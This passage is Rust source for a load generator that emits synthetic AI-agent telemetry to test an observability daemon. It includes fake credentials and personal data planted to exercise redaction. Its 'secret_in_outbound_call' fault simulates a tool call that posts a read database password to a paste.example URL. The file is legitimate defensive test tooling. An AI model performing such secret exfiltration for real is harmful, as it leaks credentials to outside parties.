//! `toolwatch loadgen`: realistic executor traffic for demos, tests and benchmarks.
//!
//! Each generated request is one agent run: an `invoke_agent` root span, several model turns
//! with token usage, tool executions with JSON arguments and results of 1-3 KiB (some with
//! planted fake secrets and personal data), policy decisions, idempotency keys on write
//! tools, retries, and downstream HTTP and database spans emitted by a second service. The
//! same `--seed` gives the same ids and content. The report counts exactly what was
//! acknowledged, so a test can compare it with the archive; `--sent-file` and `--acked-file`
//! list the span ids of every traces export attempted and acknowledged, so a test can compare
//! the archive with them id by id, also across daemon crashes.
//!
//! Refusals with the retryable codes of the OTLP specification (HTTP 429/502/503/504, gRPC
//! `RESOURCE_EXHAUSTED`/`UNAVAILABLE`) and transport errors (refused or reset connections, as
//! when the daemon restarts) are retried with exponential backoff (capped at 1 s, or the
//! server's `Retry-After`/`RetryInfo` when longer) for up to 300 s per export, the
//! OpenTelemetry Collector exporters' default `retry_on_failure.max_elapsed_time`: while
//! toolwatch refuses, it does not choose whom to let in next, so one sender can wait much
//! longer than the average (fair admission between senders is issue 14's per-tenant limits).
//!
//! [`blast`] is the other mode, for measuring the daemon rather than testing it: a handful of
//! batches of agent requests encoded to OTLP/HTTP protobuf once, then sent over a few
//! keep-alive connections as fast as they are answered, each send with fresh trace ids, span
//! ids, request ids and times written over the template's bytes in place (no re-encoding),
//! so that the client costs little CPU next to the daemon.

use std::fmt;
use std::io::Write;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use opentelemetry_proto::tonic::collector::logs::v1::logs_service_client::LogsServiceClient;
use opentelemetry_proto::tonic::collector::logs::v1::ExportLogsServiceRequest;
use opentelemetry_proto::tonic::collector::trace::v1::trace_service_client::TraceServiceClient;
use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceRequest;
use opentelemetry_proto::tonic::common::v1::{any_value, AnyValue, InstrumentationScope, KeyValue};
use opentelemetry_proto::tonic::logs::v1::{LogRecord, ResourceLogs, ScopeLogs};
use opentelemetry_proto::tonic::resource::v1::Resource;
use opentelemetry_proto::tonic::trace::v1::span::{Event, SpanKind};
use opentelemetry_proto::tonic::trace::v1::{ResourceSpans, ScopeSpans, Span, Status};
use prost::Message;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use tokio::sync::Semaphore;

/// How loadgen talks to toolwatch.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Protocol {
    /// OTLP/gRPC.
    Grpc,
    /// OTLP/HTTP with protobuf bodies.
    Http,
}

/// What to send.
#[derive(Debug, Clone)]
pub struct LoadgenOptions {
    /// gRPC address or HTTP base URL.
    pub target: String,
    /// Transport.
    pub protocol: Protocol,
    /// Agent runs to send.
    pub requests: u64,
    /// Agent runs per second; 0 for as fast as accepted.
    pub rate: u64,
    /// Tenants to spread runs over.
    pub tenants: u32,
    /// Seed for ids and content.
    pub seed: u64,
    /// Export calls in flight at once.
    pub concurrency: usize,
    /// Agent runs per export call (an SDK batch processor sends up to 512 spans at once).
    pub batch: u64,
    /// What the agent runs look like.
    pub profile: Profile,
    /// Appends `<trace_id_hex> <span_id_hex>` for every span of a traces export once it is
    /// acknowledged (written and flushed before the next export's result is recorded).
    pub acked_file: Option<PathBuf>,
    /// Appends the same lines for every span of a traces export before it is first sent.
    pub sent_file: Option<PathBuf>,
    /// Sent as `authorization: Bearer <token>` with every export.
    pub token: Option<String>,
    /// Tenants are named `<prefix>0`, `<prefix>1`, …
    pub tenant_prefix: String,
}

/// Tenant names' prefix unless `--tenant-prefix` says otherwise.
pub const DEFAULT_TENANT_PREFIX: &str = "tenant-";

/// `authorization: Bearer <token>` as a header value, marked sensitive (kept out of debug
/// output); an error for a token no header can carry.
fn bearer_header(token: &str) -> Result<http::HeaderValue, LoadgenError> {
    let mut v = http::HeaderValue::from_str(&format!("Bearer {}", token.trim())).map_err(|_| {
        LoadgenError::Options("the token holds characters a header cannot carry".into())
    })?;
    v.set_sensitive(true);
    Ok(v)
}

/// Default headers for a reqwest client: the bearer token, if any.
fn auth_headers(token: Option<&str>) -> Result<reqwest::header::HeaderMap, LoadgenError> {
    let mut h = reqwest::header::HeaderMap::new();
    if let Some(t) = token {
        h.insert(reqwest::header::AUTHORIZATION, bearer_header(t)?);
    }
    Ok(h)
}

/// The shape of the generated agent runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum Profile {
    /// Well-behaved runs: 2–4 model turns, 1–2 tool calls between turns, realistic payloads.
    #[default]
    Normal,
    /// Runs that break the per-request budgets, cycling through four kinds by run number n:
    /// n % 4 = 0 a model-turn loop (30 turns of 1,000 input and 100 output tokens); 1 a tool
    /// loop (one turn, then 60 identical `search_orders` calls, 1,000 result bytes each); 2 a
    /// slow run (11 minutes from first to last span, ending now); 3 a token burn (3 turns of
    /// 40,000 input and 4,000 output tokens of gpt-4o, and one `export_report` call declaring
    /// 5,000,000 result bytes).
    Runaway,
    /// Normal runs, every fourth (n % 4 = 0) with one executor checklist fault that raises
    /// one finding, in turn through [`FAULTS`] (run n carries `FAULTS[(n / 4) % 9]`, see
    /// [`fault_of`]): two extra tool calls at the start of the run (one for the rules about a
    /// single call), or the root's stop reason left out.
    Faults,
}

/// The findings rules `--profile faults` injects, in the order runs take them.
pub const FAULTS: [&str; 9] = [
    "write_without_allow",
    "high_impact_without_confirmation",
    "confirmation_digest_mismatch",
    "ambiguous_write_retried_without_key",
    "retry_after_deny",
    "cross_tenant_resource",
    "parallel_writes_same_resource",
    "loop_without_stop_reason",
    "secret_in_outbound_call",
];

/// The fault `--profile faults` injects into run `n`, if any.
pub fn fault_of(n: u64) -> Option<&'static str> {
    n.is_multiple_of(4)
        .then(|| FAULTS[usize::try_from((n / 4) % FAULTS.len() as u64).unwrap_or(0)])
}

/// Why loadgen could not run.
#[derive(Debug, thiserror::Error)]
pub enum LoadgenError {
    /// The target is not a valid address.
    #[error("invalid target {0:?}")]
    Target(String),
    /// The connection could not be made.
    #[error("cannot connect to {target}: {detail}")]
    Connect {
        /// The target.
        target: String,
        /// Why.
        detail: String,
    },
    /// The options cannot be used together.
    #[error("{0}")]
    Options(String),
    /// A span-id file could not be opened.
    #[error("cannot open {path}: {detail}")]
    IdFile {
        /// The file.
        path: PathBuf,
        /// Why.
        detail: String,
    },
}

/// What was sent and acknowledged.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LoadgenReport {
    /// Agent runs whose spans were all acknowledged.
    pub requests: u64,
    /// Spans acknowledged.
    pub spans: u64,
    /// Of those: agent spans.
    pub agent_spans: u64,
    /// Model-call spans.
    pub model_spans: u64,
    /// Tool-execution spans.
    pub tool_spans: u64,
    /// Downstream client spans.
    pub downstream_spans: u64,
    /// Log records acknowledged.
    pub log_records: u64,
    /// Tool spans carrying a planted fake secret or personal data.
    pub planted_secrets: u64,
    /// Runs with an injected checklist fault (`--profile faults`).
    pub faulty_requests: u64,
    /// Export calls acknowledged.
    pub exports: u64,
    /// Bytes of acknowledged protobuf bodies.
    pub bytes: u64,
    /// Export calls retried after a retryable refusal.
    pub retries: u64,
    /// Export calls that failed for good.
    pub failed_batches: u64,
    /// Wall time in milliseconds.
    pub elapsed_ms: u64,
    /// Start time of the first run, ns since the epoch: with the seed, tenants and request
    /// count, [`generate`] rebuilds the exact runs that were sent.
    pub base_time_ns: u64,
}

impl LoadgenReport {
    /// The report as one JSON object.
    pub fn to_json(&self) -> String {
        serde_json::json!({
            "requests": self.requests,
            "spans": self.spans,
            "agent_spans": self.agent_spans,
            "model_spans": self.model_spans,
            "tool_spans": self.tool_spans,
            "downstream_spans": self.downstream_spans,
            "log_records": self.log_records,
            "planted_secrets": self.planted_secrets,
            "faulty_requests": self.faulty_requests,
            "exports": self.exports,
            "bytes": self.bytes,
            "retries": self.retries,
            "failed_batches": self.failed_batches,
            "elapsed_ms": self.elapsed_ms,
            "base_time_ns": self.base_time_ns,
        })
        .to_string()
    }

    fn add(&mut self, run: &RunCounts) {
        self.requests += run.runs;
        self.spans += run.spans();
        self.agent_spans += run.agent;
        self.model_spans += run.model;
        self.tool_spans += run.tool;
        self.downstream_spans += run.downstream;
        self.log_records += run.logs;
        self.planted_secrets += run.planted;
        self.faulty_requests += run.faults;
    }
}

impl fmt::Display for LoadgenReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let secs = (self.elapsed_ms as f64 / 1000.0).max(0.001);
        writeln!(
            f,
            "requests {}  spans {} (agent {}, model {}, tool {}, downstream {})  log records {}",
            self.requests,
            self.spans,
            self.agent_spans,
            self.model_spans,
            self.tool_spans,
            self.downstream_spans,
            self.log_records
        )?;
        writeln!(
            f,
            "exports {}  bytes {}  retries {}  failed {}  planted secrets {}",
            self.exports, self.bytes, self.retries, self.failed_batches, self.planted_secrets
        )?;
        write!(
            f,
            "elapsed {:.1}s  {:.0} spans/s  {:.1} MiB/s",
            secs,
            self.spans as f64 / secs,
            self.bytes as f64 / secs / (1024.0 * 1024.0)
        )
    }
}

#[derive(Debug, Clone, Copy, Default)]
struct RunCounts {
    runs: u64,
    agent: u64,
    model: u64,
    tool: u64,
    downstream: u64,
    logs: u64,
    planted: u64,
    faults: u64,
}

impl RunCounts {
    fn spans(&self) -> u64 {
        self.agent + self.model + self.tool + self.downstream
    }

    fn merge(&mut self, o: &RunCounts) {
        self.runs += o.runs;
        self.agent += o.agent;
        self.model += o.model;
        self.tool += o.tool;
        self.downstream += o.downstream;
        self.logs += o.logs;
        self.planted += o.planted;
        self.faults += o.faults;
    }
}

impl AgentRun {
    /// Appends another run's spans and log records, so that one export carries both.
    fn absorb(&mut self, other: AgentRun) {
        self.traces
            .resource_spans
            .extend(other.traces.resource_spans);
        self.logs.resource_logs.extend(other.logs.resource_logs);
        self.counts.merge(&other.counts);
    }
}

/// One generated agent run, as the two export requests that carry it.
pub struct AgentRun {
    /// Spans of the executor and the downstream service.
    pub traces: ExportTraceServiceRequest,
    /// Policy-decision log records with trace context (may be empty).
    pub logs: ExportLogsServiceRequest,
    /// What a summary of this run must say, read off the generated spans.
    pub expected: ExpectedSummary,
    counts: RunCounts,
}

/// The facts of one generated run that toolwatch's `requests` row must reproduce.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize)]
pub struct ExpectedSummary {
    /// `executor.request_id`.
    pub request_id: String,
    /// Tenant.
    pub tenant: String,
    /// Principal.
    pub principal_id: String,
    /// Hex trace id.
    pub trace_id: String,
    /// Spans of the executor and the downstream service.
    pub spans: u64,
    /// Model calls.
    pub model_turns: u64,
    /// Tool calls, in total and per tool.
    pub tool_calls: u64,
    /// See `tool_calls`.
    pub tool_calls_by_tool: std::collections::BTreeMap<String, u64>,
    /// Downstream calls.
    pub downstream_calls: u64,
    /// Token totals.
    pub input_tokens: i64,
    /// See `input_tokens`.
    pub output_tokens: i64,
    /// See `input_tokens`.
    pub cache_read_tokens: i64,
    /// Tool calls the policy denied.
    pub denials: u64,
    /// Tool calls that needed a confirmation.
    pub confirmations_requested: u64,
    /// Confirmations approved.
    pub confirmations_approved: u64,
    /// Retry attempts.
    pub retries: u64,
    /// Spans in error.
    pub errors: u64,
    /// Start and end of the root span, ns.
    pub start_ns: u64,
    /// See `start_ns`.
    pub end_ns: u64,
}

fn expected_summary(
    request_id: &str,
    tenant: &str,
    principal: &str,
    exec: &[Span],
    down: &[Span],
) -> ExpectedSummary {
    let mut e = ExpectedSummary {
        request_id: request_id.into(),
        tenant: tenant.into(),
        principal_id: principal.into(),
        spans: (exec.len() + down.len()) as u64,
        downstream_calls: down.len() as u64,
        ..Default::default()
    };
    let text = |span: &Span, key: &str| {
        span.attributes
            .iter()
            .find(|kv| kv.key == key)
            .and_then(
                |kv| match kv.value.as_ref().and_then(|v| v.value.as_ref()) {
                    Some(any_value::Value::StringValue(s)) => Some(s.clone()),
                    _ => None,
                },
            )
    };
    let int = |span: &Span, key: &str| {
        span.attributes
            .iter()
            .find(|kv| kv.key == key)
            .and_then(
                |kv| match kv.value.as_ref().and_then(|v| v.value.as_ref()) {
                    Some(any_value::Value::IntValue(i)) => Some(*i),
                    _ => None,
                },
            )
    };
    for span in exec {
        if span.parent_span_id.is_empty() {
            e.trace_id = hex::encode(&span.trace_id);
            e.start_ns = span.start_time_unix_nano;
            e.end_ns = span.end_time_unix_nano;
        }
        match text(span, "gen_ai.operation.name").as_deref() {
            Some("chat") => {
                e.model_turns += 1;
                e.input_tokens += int(span, "gen_ai.usage.input_tokens").unwrap_or(0);
                e.output_tokens += int(span, "gen_ai.usage.output_tokens").unwrap_or(0);
                e.cache_read_tokens +=
                    int(span, "gen_ai.usage.cache_read.input_tokens").unwrap_or(0);
            }
            Some("execute_tool") => {
                e.tool_calls += 1;
                let tool = text(span, "gen_ai.tool.name").unwrap_or_default();
                *e.tool_calls_by_tool.entry(tool).or_default() += 1;
            }
            _ => {}
        }
        match text(span, "executor.policy_decision").as_deref() {
            Some("deny") => e.denials += 1,
            Some("require_confirmation") => e.confirmations_requested += 1,
            _ => {}
        }
        if text(span, "executor.confirmation_status").as_deref() == Some("approved") {
            e.confirmations_approved += 1;
        }
        if int(span, "executor.retry_attempt").unwrap_or(0) > 0 {
            e.retries += 1;
        }
    }
    for span in exec.iter().chain(down) {
        if span.status.as_ref().is_some_and(|st| st.code == 2) {
            e.errors += 1;
        }
    }
    e
}

fn kv(key: &str, value: any_value::Value) -> KeyValue {
    KeyValue {
        key: key.to_string(),
        value: Some(AnyValue { value: Some(value) }),
        ..Default::default()
    }
}

fn s(key: &str, v: impl Into<String>) -> KeyValue {
    kv(key, any_value::Value::StringValue(v.into()))
}

fn i(key: &str, v: i64) -> KeyValue {
    kv(key, any_value::Value::IntValue(v))
}

fn resource(service: &str, tenant: &str) -> Resource {
    Resource {
        attributes: vec![
            s("service.name", service),
            s("service.version", "1.4.2"),
            s("deployment.environment.name", "loadgen"),
            s("executor.tenant_id", tenant),
        ],
        ..Default::default()
    }
}

struct Tool {
    name: &'static str,
    effect: &'static str,
    downstream: &'static str,
}

const TOOLS: &[Tool] = &[
    Tool {
        name: "search_orders",
        effect: "read",
        downstream: "db",
    },
    Tool {
        name: "get_customer",
        effect: "read",
        downstream: "http",
    },
    Tool {
        name: "refund_order",
        effect: "write",
        downstream: "http",
    },
    Tool {
        name: "send_email",
        effect: "write",
        downstream: "http",
    },
    Tool {
        name: "delete_records",
        effect: "high_impact",
        downstream: "db",
    },
];

/// Fake secrets and personal data planted in tool payloads so that redaction can be tested.
/// All are syntactically plausible and none is real.
pub const PLANTED: &[&str] = &[
    "AKIAT3STONLYN0TREAL7",
    "sk-proj-T3stOnlyN0tAR3alK3yAbCdEfGhIjKlMnOpQrStUvWxYz012345",
    "ghp_T3stOnlyT0ken7f3a9c2e1d5b8a4c6e0f2d9",
    "jane.doe@example.com",
    "+1 415 555 0132",
    "4111 1111 1111 1111",
    "GB82 WEST 1234 5698 7654 32",
    "xoxb-2401734567-2409871543210-T3stOnlyT0kenValue",
];

struct Generator {
    rng: StdRng,
    seed: u64,
    base_ns: u64,
    profile: Profile,
    /// Tenants are named `<prefix><n>`.
    tenant_prefix: String,
}

impl Generator {
    fn id<const N: usize>(&mut self) -> Vec<u8> {
        let mut b = [0u8; N];
        self.rng.fill(&mut b[..]);
        b[0] |= 1; // never all zeros
        b.to_vec()
    }

    fn words(&mut self, n: usize) -> String {
        const WORDS: &[&str] = &[
            "order",
            "shipment",
            "customer",
            "refund",
            "pending",
            "warehouse",
            "priority",
            "invoice",
            "delivered",
            "address",
            "express",
            "returned",
            "status",
            "account",
        ];
        (0..n)
            .map(|_| WORDS[self.rng.random_range(0..WORDS.len())])
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// A JSON payload of roughly `target` bytes, with a planted value when `plant` is set.
    fn payload(&mut self, tool: &str, target: usize, plant: Option<&str>) -> String {
        let mut items = Vec::new();
        let mut len = 0;
        while len < target {
            let item = serde_json::json!({
                "order_id": format!("ORD-{:08}", self.rng.random_range(0..100_000_000u32)),
                "amount_cents": self.rng.random_range(100..500_000u32),
                "note": self.words(8),
            });
            len += item.to_string().len() + 1;
            items.push(item);
        }
        let mut doc = serde_json::json!({ "tool": tool, "items": items });
        if let Some(secret) = plant {
            doc["contact"] = serde_json::Value::String(format!("reach me at {secret}"));
        }
        doc.to_string()
    }

    #[allow(clippy::too_many_arguments)]
    fn span(
        &mut self,
        trace_id: &[u8],
        parent: &[u8],
        name: String,
        kind: SpanKind,
        start: u64,
        dur: u64,
        attributes: Vec<KeyValue>,
        error: bool,
    ) -> Span {
        Span {
            trace_id: trace_id.to_vec(),
            span_id: self.id::<8>(),
            parent_span_id: parent.to_vec(),
            name,
            kind: kind as i32,
            start_time_unix_nano: start,
            end_time_unix_nano: start + dur,
            attributes,
            status: Some(Status {
                code: if error { 2 } else { 0 },
                message: if error {
                    "tool failed".into()
                } else {
                    String::new()
                },
            }),
            ..Default::default()
        }
    }

    fn run(&mut self, n: u64, tenants: u32) -> AgentRun {
        match self.profile {
            Profile::Normal => self.normal_run(n, tenants, None),
            Profile::Runaway => self.runaway_run(n, tenants),
            Profile::Faults => self.normal_run(n, tenants, fault_of(n)),
        }
    }

    /// One model turn of the runaway profile.
    fn runaway_turn(&mut self, t: &RunawayRun, start: u64, input: i64, output: i64) -> Span {
        self.span(
            &t.trace_id,
            &t.root_id,
            "chat gpt-4o".into(),
            SpanKind::Client,
            start,
            500_000_000,
            vec![
                s("gen_ai.operation.name", "chat"),
                s("gen_ai.provider.name", "openai"),
                s("gen_ai.request.model", "gpt-4o"),
                i("gen_ai.usage.input_tokens", input),
                i("gen_ai.usage.output_tokens", output),
                s("executor.request_id", t.request_id.clone()),
            ],
            false,
        )
    }

    /// One tool call of the runaway profile.
    fn runaway_tool(
        &mut self,
        t: &RunawayRun,
        start: u64,
        tool: &str,
        args: &str,
        result_bytes: i64,
    ) -> Span {
        self.span(
            &t.trace_id,
            &t.root_id,
            format!("execute_tool {tool}"),
            SpanKind::Internal,
            start,
            50_000_000,
            vec![
                s("gen_ai.operation.name", "execute_tool"),
                s("gen_ai.tool.name", tool),
                s("gen_ai.tool.call.arguments", args),
                s("executor.request_id", t.request_id.clone()),
                s("executor.principal_id", t.principal.clone()),
                s("executor.policy_decision", "allow"),
                s("executor.result_code", "ok"),
                i("executor.result_bytes", result_bytes),
            ],
            false,
        )
    }

    fn runaway_run(&mut self, n: u64, tenants: u32) -> AgentRun {
        const SEC: u64 = 1_000_000_000;
        let t = RunawayRun {
            tenant: format!("{}{}", self.tenant_prefix, n % u64::from(tenants)),
            principal: format!("user-{}", n % 7),
            request_id: format!("req-{}-{n:08}", self.seed),
            trace_id: self.id::<16>(),
            root_id: self.id::<8>(),
        };
        // Every run ends by base time, so no span lies in the future.
        let (start, kind) = match n % 4 {
            2 => (self.base_ns - 660 * SEC, "slow"),
            0 => (self.base_ns - 40 * SEC, "turn_loop"),
            1 => (self.base_ns - 40 * SEC, "tool_loop"),
            _ => (self.base_ns - 40 * SEC, "token_burn"),
        };
        let mut spans = Vec::new();
        let mut at = start + SEC / 100;
        match kind {
            "turn_loop" => {
                for _ in 0..30 {
                    spans.push(self.runaway_turn(&t, at, 1_000, 100));
                    at += SEC;
                }
            }
            "tool_loop" => {
                spans.push(self.runaway_turn(&t, at, 1_000, 100));
                for k in 0..60 {
                    at += SEC / 2;
                    // The same call, spelled differently every other time.
                    let args = if k % 2 == 0 {
                        r#"{"query":"where is order 1234","page":1}"#
                    } else {
                        r#"{ "page": 1.0, "query": "where is order 1234" }"#
                    };
                    spans.push(self.runaway_tool(&t, at, "search_orders", args, 1_000));
                }
            }
            "slow" => {
                spans.push(self.runaway_turn(&t, at, 1_000, 100));
                spans.push(self.runaway_tool(&t, at + SEC, "get_customer", r#"{"id":7}"#, 300));
                spans.push(self.runaway_turn(&t, start + 659 * SEC, 1_000, 100));
            }
            _ => {
                for _ in 0..3 {
                    spans.push(self.runaway_turn(&t, at, 40_000, 4_000));
                    at += SEC;
                }
                spans.push(self.runaway_tool(
                    &t,
                    at,
                    "export_report",
                    r#"{"format":"csv"}"#,
                    5_000_000,
                ));
            }
        }
        let end = spans
            .iter()
            .map(|s| s.end_time_unix_nano)
            .max()
            .unwrap_or(start)
            + SEC / 100;
        let root = Span {
            trace_id: t.trace_id.clone(),
            span_id: t.root_id.clone(),
            name: "invoke_agent support-agent".into(),
            kind: SpanKind::Internal as i32,
            start_time_unix_nano: start,
            end_time_unix_nano: end,
            attributes: vec![
                s("gen_ai.operation.name", "invoke_agent"),
                s("gen_ai.agent.name", "support-agent"),
                s("executor.request_id", t.request_id.clone()),
                s("executor.principal_id", t.principal.clone()),
                s("executor.stop_reason", kind),
            ],
            ..Default::default()
        };
        // The root ends last: it goes last, as an SDK would send it.
        spans.push(root);
        let counts = RunCounts {
            runs: 1,
            agent: 1,
            model: spans.iter().filter(|s| s.name.starts_with("chat")).count() as u64,
            tool: spans
                .iter()
                .filter(|s| s.name.starts_with("execute_tool"))
                .count() as u64,
            ..Default::default()
        };
        let expected = expected_summary(&t.request_id, &t.tenant, &t.principal, &spans, &[]);
        let traces = ExportTraceServiceRequest {
            resource_spans: vec![ResourceSpans {
                resource: Some(resource("agent-executor", &t.tenant)),
                scope_spans: vec![ScopeSpans {
                    scope: Some(InstrumentationScope {
                        name: "executor".into(),
                        version: "0.9.0".into(),
                        ..Default::default()
                    }),
                    spans,
                    ..Default::default()
                }],
                ..Default::default()
            }],
        };
        AgentRun {
            traces,
            logs: ExportLogsServiceRequest::default(),
            expected,
            counts,
        }
    }

    fn normal_run(&mut self, n: u64, tenants: u32, fault: Option<&str>) -> AgentRun {
        let tenant = format!("{}{}", self.tenant_prefix, n % u64::from(tenants));
        let principal = format!("user-{}", self.rng.random_range(0..50u32));
        let request_id = format!("req-{}-{n:08}", self.seed);
        let trace_id = self.id::<16>();
        let start = self.base_ns + n * 1_000_000;
        let mut counts = RunCounts {
            runs: 1,
            ..Default::default()
        };
        let mut exec_spans = Vec::new();
        let mut down_spans = Vec::new();
        let mut logs = Vec::new();

        let root_id = self.id::<8>();
        let turns = self.rng.random_range(2..=4u32);
        let mut t = start + 1_000_000;
        for turn in 0..turns {
            let input = self.rng.random_range(400..4000i64);
            let output = self.rng.random_range(20..600i64);
            let dur = self.rng.random_range(200..2000u64) * 1_000_000;
            let mut attrs = vec![
                s("gen_ai.operation.name", "chat"),
                s("gen_ai.provider.name", "openai"),
                s("gen_ai.request.model", "gpt-4o"),
                s("gen_ai.response.model", "gpt-4o-2024-08-06"),
                i("gen_ai.usage.input_tokens", input),
                i("gen_ai.usage.output_tokens", output),
                s("executor.request_id", request_id.clone()),
            ];
            if turn > 0 {
                attrs.push(i("gen_ai.usage.cache_read.input_tokens", input / 2));
            }
            let span = self.span(
                &trace_id,
                &root_id,
                "chat gpt-4o".into(),
                SpanKind::Client,
                t,
                dur,
                attrs,
                false,
            );
            exec_spans.push(span);
            counts.model += 1;
            t += dur;
            if turn + 1 == turns {
                break;
            }
            let calls = self.rng.random_range(1..=2u32);
            for _ in 0..calls {
                let tool = &TOOLS[self.rng.random_range(0..TOOLS.len())];
                let retry = self.rng.random_bool(0.1);
                for attempt in 0..=u32::from(retry) {
                    let (span, down, log, planted) = self.tool_call(
                        tool,
                        &trace_id,
                        &root_id,
                        &request_id,
                        &principal,
                        t,
                        attempt,
                        retry,
                    );
                    t = span.end_time_unix_nano + 1_000_000;
                    exec_spans.push(span);
                    counts.tool += 1;
                    counts.planted += u64::from(planted);
                    counts.downstream += down.len() as u64;
                    down_spans.extend(down);
                    if let Some(l) = log {
                        logs.push(l);
                        counts.logs += 1;
                    }
                }
            }
        }
        let root = Span {
            trace_id: trace_id.clone(),
            span_id: root_id.clone(),
            name: "invoke_agent support-agent".into(),
            kind: SpanKind::Internal as i32,
            start_time_unix_nano: start,
            end_time_unix_nano: t + 1_000_000,
            attributes: vec![
                s("gen_ai.operation.name", "invoke_agent"),
                s("gen_ai.agent.name", "support-agent"),
                s("gen_ai.agent.id", "agent-7"),
                s("gen_ai.conversation.id", format!("conv-{n:08}")),
                s("executor.request_id", request_id.clone()),
                s("executor.principal_id", principal.clone()),
                s("executor.prompt_version", "support-v12"),
                s("executor.stop_reason", "completed"),
            ],
            ..Default::default()
        };
        let mut root = root;
        if let Some(fault) = fault {
            let calls = self.fault_calls(fault, &trace_id, &mut root, &request_id, &principal);
            counts.tool += calls.len() as u64;
            counts.faults += 1;
            exec_spans.extend(calls);
        }
        exec_spans.insert(0, root);
        counts.agent += 1;
        let expected = expected_summary(&request_id, &tenant, &principal, &exec_spans, &down_spans);

        let scope = |name: &str| InstrumentationScope {
            name: name.into(),
            version: "0.9.0".into(),
            ..Default::default()
        };
        let traces = ExportTraceServiceRequest {
            resource_spans: vec![
                ResourceSpans {
                    resource: Some(resource("agent-executor", &tenant)),
                    scope_spans: vec![ScopeSpans {
                        scope: Some(scope("executor")),
                        spans: exec_spans,
                        ..Default::default()
                    }],
                    ..Default::default()
                },
                ResourceSpans {
                    resource: Some(resource("orders-api", &tenant)),
                    scope_spans: vec![ScopeSpans {
                        scope: Some(scope("orders-api")),
                        spans: down_spans,
                        ..Default::default()
                    }],
                    ..Default::default()
                },
            ],
        };
        let logs = ExportLogsServiceRequest {
            resource_logs: if logs.is_empty() {
                Vec::new()
            } else {
                vec![ResourceLogs {
                    resource: Some(resource("agent-executor", &tenant)),
                    scope_logs: vec![ScopeLogs {
                        scope: Some(scope("executor.policy")),
                        log_records: logs,
                        ..Default::default()
                    }],
                    ..Default::default()
                }]
            },
        };
        AgentRun {
            traces,
            logs,
            expected,
            counts,
        }
    }

    /// The tool calls (children of `root`, at its start) that make one checklist fault, or
    /// the change to `root` itself; everything else about them is what a careful executor
    /// sends, so the run raises exactly this finding beyond what its normal calls raise.
    fn fault_calls(
        &mut self,
        fault: &str,
        trace_id: &[u8],
        root: &mut Span,
        request_id: &str,
        principal: &str,
    ) -> Vec<Span> {
        const MS: u64 = 1_000_000;
        let t0 = root.start_time_unix_nano + MS / 2;
        let order = self.rng.random_range(0..100_000u32);
        let resource = format!("orders/{order}");
        let args =
            format!(r#"{{"order_id":"ORD-{order:05}","note":"customer called about delivery"}}"#);
        // (tool, effect, decision, result, extra attributes, start offset ms, duration ms)
        type Call = (
            &'static str,
            &'static str,
            &'static str,
            &'static str,
            Vec<KeyValue>,
            u64,
            u64,
        );
        let plain = |tool, effect, decision, result, extra, at, dur| -> Call {
            (tool, effect, decision, result, extra, at, dur)
        };
        let calls: Vec<(Call, String)> = match fault {
            "write_without_allow" => vec![(
                plain(
                    "add_order_note",
                    "write",
                    "require_confirmation",
                    "ok",
                    vec![],
                    0,
                    2,
                ),
                args.clone(),
            )],
            "high_impact_without_confirmation" => vec![(
                plain("issue_refund", "high_impact", "allow", "ok", vec![], 0, 2),
                args.clone(),
            )],
            "confirmation_digest_mismatch" => {
                // Approved for one note; what ran carries another.
                let previewed = args.replace("delivery", "billing");
                let digest = toolwatch::protect::confirmation::confirmation_digest(
                    Some("issue_refund"),
                    Some(&previewed),
                    Some(&resource),
                    None,
                );
                vec![(
                    plain(
                        "issue_refund",
                        "high_impact",
                        "allow",
                        "ok",
                        vec![
                            s("executor.confirmation_status", "approved"),
                            s("executor.confirmation_digest", digest),
                        ],
                        0,
                        2,
                    ),
                    args.clone(),
                )]
            }
            "ambiguous_write_retried_without_key" => vec![
                (
                    plain("add_order_note", "write", "allow", "timeout", vec![], 0, 2),
                    args.clone(),
                ),
                (
                    plain("add_order_note", "write", "allow", "ok", vec![], 3, 2),
                    args.clone(),
                ),
            ],
            "retry_after_deny" => vec![
                (
                    plain("export_customers", "read", "deny", "denied", vec![], 0, 1),
                    args.clone(),
                ),
                (
                    plain("export_customers", "read", "deny", "denied", vec![], 2, 1),
                    args.clone(),
                ),
            ],
            "cross_tenant_resource" => vec![(
                plain(
                    "get_order",
                    "read",
                    "allow",
                    "ok",
                    vec![s("executor.resource_tenant_id", "another-tenant")],
                    0,
                    2,
                ),
                args.clone(),
            )],
            "parallel_writes_same_resource" => vec![
                (
                    plain("add_order_note", "write", "allow", "ok", vec![], 0, 4),
                    args.clone(),
                ),
                (
                    plain("add_order_note", "write", "allow", "ok", vec![], 1, 4),
                    args.replace("delivery", "invoice"),
                ),
            ],
            "secret_in_outbound_call" => {
                // A tool returns a credential; the next call sends it out.
                let secret: String = (0..20)
                    .map(|_| {
                        char::from(
                            b"abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
                                [self.rng.random_range(0..55usize)],
                        )
                    })
                    .collect();
                vec![
                    (
                        plain(
                            "read_config",
                            "read",
                            "allow",
                            "ok",
                            vec![s(
                                "gen_ai.tool.call.result",
                                format!(r#"{{"db_password":"{secret}"}}"#),
                            )],
                            0,
                            1,
                        ),
                        r#"{"name":"billing"}"#.to_string(),
                    ),
                    (
                        plain("http_post", "read", "allow", "ok", vec![], 2, 1),
                        format!(r#"{{"url":"https://paste.example/new","body":"{secret}"}}"#),
                    ),
                ]
            }
            _ => {
                // loop_without_stop_reason
                root.attributes
                    .retain(|kv| kv.key != "executor.stop_reason");
                Vec::new()
            }
        };
        calls
            .into_iter()
            .map(|((tool, effect, decision, result, extra, at, dur), args)| {
                let mut attrs = vec![
                    s("gen_ai.operation.name", "execute_tool"),
                    s("gen_ai.tool.name", tool),
                    s("gen_ai.tool.call.arguments", args),
                    s("executor.request_id", request_id),
                    s("executor.principal_id", principal),
                    s("executor.effect_class", effect),
                    s("executor.policy_decision", decision),
                    s("executor.result_code", result),
                    s("executor.resource_id", resource.clone()),
                ];
                attrs.extend(extra);
                self.span(
                    trace_id,
                    &root.span_id,
